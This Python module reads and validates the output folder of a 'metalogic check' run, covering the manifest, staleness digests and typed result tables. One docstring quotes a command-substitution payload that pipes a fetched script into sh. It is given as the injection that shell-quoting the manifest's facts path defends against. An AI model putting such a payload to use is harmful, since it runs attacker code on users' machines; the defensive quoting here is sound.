"""Reading back what `metalogic check --out` wrote (engine/check/writer.py writes it), for `report`
and `compare`.

Reading checks the manifest (kind and format), that the facts and rule files it names have not
changed since (when they are still there), and every table it reads (present, same digest, the
columns it needs, values of the right type); each problem is one clear error.
"""

from __future__ import annotations

import json
import shlex
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import polars as pl

from metalogic import __version__
from metalogic.engine.check.layout import (
    COLUMN_ORDER,
    COLUMN_VALUES,
    COLUMNS,
    FORMAT,
    KIND,
    MANIFEST,
    READ_ORDER,
    REPORT_TABLES,
)
from metalogic.engine.check.values import first_bad_value, manifest_entry_problem, manifest_problem
from metalogic.engine.check.writer import (
    facts_digest,
    sha256_of,
)
from metalogic.engine.errors import MetalogicError
from metalogic.engine.results import Rows


def _rerun(folder: Path, manifest: Mapping[str, Any] | None = None) -> str:
    return (
        f"run the check again: metalogic check {facts_arg(manifest)} --out {shlex.quote(str(folder))} "
        "(or 'metalogic run CONFIG')"
    )


def facts_arg(manifest: Mapping[str, Any] | None) -> str:
    """The manifest's facts folder as a shell word a user can paste: the manifest is a file anyone
    can edit, and a fix line that pasted '$(curl evil.sh|sh)' as it is would run it."""
    facts = (manifest or {}).get("facts_dir")
    if not isinstance(facts, str) or not facts or "\0" in facts or len(facts) > 4096:
        return "FACTS"
    return shlex.quote(facts)


def read_manifest(path: Path) -> dict[str, Any] | None:
    """The manifest at `path` if it is a check manifest of this format; None when the file is some
    other JSON document (not written by check). A manifest of another format, or an unreadable
    one, is an error."""
    folder = path.parent
    try:
        data = json.loads(path.read_text(encoding="utf-8"))
    except (OSError, UnicodeDecodeError, ValueError, RecursionError) as exc:
        detail = exc.strerror if isinstance(exc, OSError) and exc.strerror else "not valid JSON"
        if isinstance(exc, RecursionError):
            detail = "it nests too deep to be read"
        raise MetalogicError.single(
            f"cannot read the check manifest: {detail}",
            where=str(path),
            expected="the run.json that 'metalogic check --out' writes",
            fix=_rerun(folder),
        ) from None
    if not isinstance(data, dict):
        return None
    if data.get("kind") != KIND:
        if "kind" not in data and "engine" in data and "facts_dir" in data and "agents" in data:  # format 1
            raise MetalogicError.single(
                "this check output was written by an older metalogic, whose manifest does not name the "
                "tables report and compare read",
                where=str(path),
                expected=f'a manifest of format {FORMAT} ("kind": "{KIND}")',
                fix=_rerun(folder, data),
            )
        return None
    if data.get("format") != FORMAT:
        raise MetalogicError.single(
            f"this check output has format {data.get('format')!r}; this metalogic ({__version__}) reads "
            f"format {FORMAT}",
            where=str(path),
            expected=f"check output written by metalogic {__version__}",
            fix=_rerun(folder, data),
        )
    shape = manifest_problem(data)
    if shape:
        raise MetalogicError.single(
            f"the check manifest is not one check writes: {shape}",
            where=str(path),
            expected="the run.json that 'metalogic check --out' writes, unedited",
            fix=_rerun(folder, data),
        )
    entry = manifest_entry_problem(data)
    if entry:
        raise MetalogicError.single(
            f"the check manifest is not one check writes: {entry}",
            where=str(path),
            expected="the run.json that 'metalogic check --out' writes, unedited",
            fix=_rerun(folder, data),
        )
    for key, kind in (("tables", dict), ("agents", list), ("mrs", list), ("params", dict), ("request", dict)):
        if not isinstance(data.get(key), kind):
            raise MetalogicError.single(
                f"the check manifest has no valid '{key}' entry",
                where=str(path),
                expected="the run.json that 'metalogic check --out' writes, unedited",
                fix=_rerun(folder, data),
            )
    return data


def stale_reason(manifest: Mapping[str, Any]) -> str:
    """Why the check output no longer matches its inputs ('' when it does, or when the inputs
    are gone: then the output is all there is)."""
    from metalogic.engine.facts import list_fact_files

    root = Path(str(manifest.get("facts_root", "")))
    if root.exists():
        try:
            _, files = list_fact_files(root)
        except MetalogicError:
            files = []
        if files and facts_digest(root, files) != manifest.get("facts_digest"):
            return f"the facts in {root} changed after the check wrote it"
    for name, digest in dict(manifest.get("rules", {})).items():
        p = Path(name)
        if p.is_file() and sha256_of(p) != digest:
            return f"the rule file {p} changed after the check wrote it"
    return ""


@dataclass
class CheckOutput:
    """A check's output folder, read back: the manifest, the tables and the result rows."""

    folder: Path
    manifest: dict[str, Any]
    tables: dict[str, pl.DataFrame]
    rows: Rows
    agents: list[str]
    checked_now: bool = False  # True when open_check checked a facts folder to write it

    @property
    def engine(self) -> str:
        return str(self.manifest["engine"])

    @property
    def mrs(self) -> list[dict[str, Any]]:
        return list(self.manifest["mrs"])

    @property
    def params(self) -> dict[str, int]:
        return {str(k): int(v) for k, v in self.manifest["params"].items()}

    @property
    def param_scale(self) -> dict[str, int]:
        return {str(k): int(v) for k, v in self.manifest.get("param_scale", {}).items()}

    @property
    def facts_dir(self) -> str:
        return str(self.manifest.get("facts_dir", ""))

    def only_agents(self, keep: Sequence[str]) -> CheckOutput:
        want = set(keep)
        frames = {
            name: df.filter(pl.col("agent").is_in(sorted(want))) if "agent" in df.columns else df
            for name, df in self.tables.items()
        }
        agents = [a for a in self.agents if a in want]
        return CheckOutput(
            self.folder, self.manifest, frames, self.rows.only_agents(want), agents, self.checked_now
        )

    def note(self) -> str:
        """What a command says after it checked a facts folder itself ('' when it read an output)."""
        if not self.checked_now:
            return ""
        return (
            f"checked {self.facts_dir} (engine {self.engine}); its check output is in {self.folder}, "
            "and is read from there while the facts, rules and options stay the same"
        )


def table_file(folder: Path, name: str, manifest: Mapping[str, Any]) -> Path:
    """The file a table of a check output was read from (the first of READ_ORDER it has)."""
    files = manifest["tables"][name]["files"]
    fmt = next(f for f in READ_ORDER if f in files)
    return folder / Path(files[fmt]["name"]).name


def corrupt(path: Path, what: str, folder: Path, manifest: Mapping[str, Any]) -> MetalogicError:
    """A table whose content is not what check writes: one error naming the file (and row)."""
    return _corrupt(path, what, folder, manifest)


def _corrupt(path: Path, what: str, folder: Path, manifest: Mapping[str, Any]) -> MetalogicError:
    return MetalogicError.single(
        f"corrupt check table: {what}",
        where=str(path),
        expected="the table as 'metalogic check --out' wrote it (the manifest records its rows and SHA-256)",
        fix=_rerun(folder, manifest),
    )


def _read_table(folder: Path, name: str, manifest: Mapping[str, Any]) -> pl.DataFrame:
    entry = manifest["tables"].get(name)
    if not isinstance(entry, dict) or not isinstance(entry.get("files"), dict):
        raise MetalogicError.single(
            f"the check output has no '{name}' table",
            where=str(folder / MANIFEST),
            expected=f"the tables {', '.join(COLUMNS)} listed in the manifest",
            fix=_rerun(folder, manifest),
        )
    fmt = next((f for f in READ_ORDER if f in entry["files"]), None)
    if fmt is None:
        raise MetalogicError.single(
            f"the '{name}' table of the check output is in no format metalogic reads",
            where=str(folder / MANIFEST),
            expected=" or ".join(READ_ORDER),
            fix=_rerun(folder, manifest),
        )
    info = entry["files"][fmt]
    if not isinstance(info, dict) or not isinstance(info.get("name"), str):
        raise MetalogicError.single(
            f"the check manifest's entry for the {fmt} file of the '{name}' table names no file",
            where=str(folder / MANIFEST),
            expected='{"name": FILE, "sha256": DIGEST}, as check writes it',
            fix=_rerun(folder, manifest),
        )
    path = folder / Path(info["name"]).name
    if not path.is_file():
        raise _corrupt(path, "the file is missing", folder, manifest)
    if sha256_of(path) != info.get("sha256"):
        raise _corrupt(path, "its content differs from what the check wrote", folder, manifest)
    want = COLUMNS[name]
    try:
        if fmt == "parquet":
            df = pl.read_parquet(path)
        elif fmt == "json":
            data = json.loads(path.read_text(encoding="utf-8"))
            if not isinstance(data, list) or not all(isinstance(r, dict) for r in data):
                raise ValueError("not a list of rows")
            df = pl.from_dicts(data, infer_schema_length=None) if data else pl.DataFrame(schema=want)
        else:
            df = pl.read_csv(path, infer_schema=False)
            lists = [c for c, t in want.items() if isinstance(t, pl.List) and c in df.columns]
            df = df.with_columns(
                [
                    pl.col(c).fill_null("").str.split("\n").list.eval(pl.element().filter(pl.element() != ""))
                    for c in lists
                ]
            )
    except (OSError, ValueError, RecursionError, pl.exceptions.PolarsError) as exc:
        why = (
            "nested too deep" if isinstance(exc, RecursionError) else (str(exc).splitlines() or [""])[0][:120]
        )
        raise _corrupt(path, f"cannot be read ({why})", folder, manifest) from None
    missing = [c for c in want if c not in df.columns]
    if missing:
        raise _corrupt(path, f"no column {', '.join(missing)}", folder, manifest)
    try:
        df = df.with_columns([pl.col(c).cast(t, strict=True) for c, t in want.items()])
    except pl.exceptions.PolarsError:
        bad = next(c for c, t in want.items() if not _casts(df, c, t))
        raise _corrupt(
            path, f"column '{bad}' holds values that are not {_kind(want[bad])}", folder, manifest
        ) from None
    if df.height != entry.get("rows"):
        raise _corrupt(path, f"{df.height} rows, but the check wrote {entry.get('rows')}", folder, manifest)
    bad = first_bad_value(df, COLUMN_VALUES[name], COLUMN_ORDER.get(name, []), path.stat().st_size)
    if bad:
        raise _corrupt(path, bad, folder, manifest)
    return df


def _casts(df: pl.DataFrame, col: str, dtype: Any) -> bool:
    try:
        df.select(pl.col(col).cast(dtype, strict=True))
    except pl.exceptions.PolarsError:
        return False
    return True


def _kind(dtype: Any) -> str:
    return {pl.Int64: "whole numbers", pl.Float64: "numbers", pl.Utf8: "text"}.get(dtype, "lists of text")


def rows_from_tables(frames: Mapping[str, pl.DataFrame]) -> Rows:
    """The result rows (engine/results.Rows) as the tables carry them."""
    rows = Rows()
    if "violations" in frames:
        for r in frames["violations"].iter_rows(named=True):
            rows.violations.append((r["agent"], r["case"], r["mr"], r["sc"], r["reason"]))
            rows.explain[(r["agent"], r["case"])] = list(r["facts"] or [])
            rows.violation_counts[r["agent"]] = rows.violation_counts.get(r["agent"], 0) + 1
    if "scores" in frames:
        for r in frames["scores"].iter_rows(named=True):
            rows.scores.append((r["agent"], r["sc"], r["cases"], r["violations"]))
            if r["invalid"]:
                rows.invalid[(r["agent"], r["sc"])] = r["invalid"]
            rows.pooled[(r["agent"], r["sc"])] = (r["pooled_cases"], r["pooled_violations"])
            if r["evidence"] is not None:
                rows.score_from[(r["agent"], r["sc"])] = r["evidence"]
    if "scores_by_set" in frames:
        rows.scores_set = [
            (r["agent"], r["sc"], r["set"], r["cases"], r["violations"])
            for r in frames["scores_by_set"].iter_rows(named=True)
        ]
    if "scores_by_mr" in frames:
        rows.scores_mr = [
            (r["agent"], r["sc"], r["mr"], r["cases"], r["violations"])
            for r in frames["scores_by_mr"].iter_rows(named=True)
        ]
    if "trajectories" in frames:
        rows.by_trajectory = [
            (r["agent"], r["trajectory"], r["cases"], r["violations"])
            for r in frames["trajectories"].iter_rows(named=True)
        ]
    if "objects" in frames:
        rows.by_object = [
            (r["agent"], r["trajectory"], r["object"], r["cases"], r["violations"])
            for r in frames["objects"].iter_rows(named=True)
        ]
    if "answers" in frames:
        for r in frames["answers"].iter_rows(named=True):
            rows.by_query[(r["agent"], r["query"])] = (r["cases"], r["violations"])
    return rows


def load_check_output(folder: Path, wanted: Sequence[str] = REPORT_TABLES) -> CheckOutput:
    """Read a check's output folder (its manifest, then the `wanted` tables), checking each."""
    path = folder / MANIFEST
    manifest = read_manifest(path) if path.is_file() else None
    if manifest is None:
        raise no_check_output(folder, foreign=path.is_file())
    why = stale_reason(manifest)
    if why:
        raise MetalogicError.single(
            f"the check output is stale: {why}",
            where=str(folder),
            expected="check output written from the facts and rules as they are now",
            fix=_rerun(folder, manifest),
        )
    frames = {name: _read_table(folder, name, manifest) for name in wanted}
    agents = [str(a) for a in manifest["agents"]]
    rows = rows_from_tables(frames)
    rows.case_count = int(manifest.get("testcases", 0))
    return CheckOutput(folder, manifest, frames, rows, agents)


def no_check_output(folder: Path, foreign: bool = False) -> MetalogicError:
    if foreign:
        return MetalogicError.single(
            f"{folder / MANIFEST} was not written by 'metalogic check --out'",
            where=str(folder / MANIFEST),
            expected=f'the manifest of a check output ("kind": "{KIND}"), or a facts folder (*.lp files)',
            fix="point at the folder 'metalogic check FACTS --out DIR' wrote, or write one: "
            f"metalogic check FACTS --out {folder}",
        )
    return MetalogicError.single(
        f"no check output and no facts in {folder}",
        where=str(folder),
        expected=f"the folder 'metalogic check FACTS --out DIR' writes ({MANIFEST} and its tables), "
        "or a facts folder (*.lp files)",
        fix=f"write it first: metalogic check FACTS --out {folder}",
    )
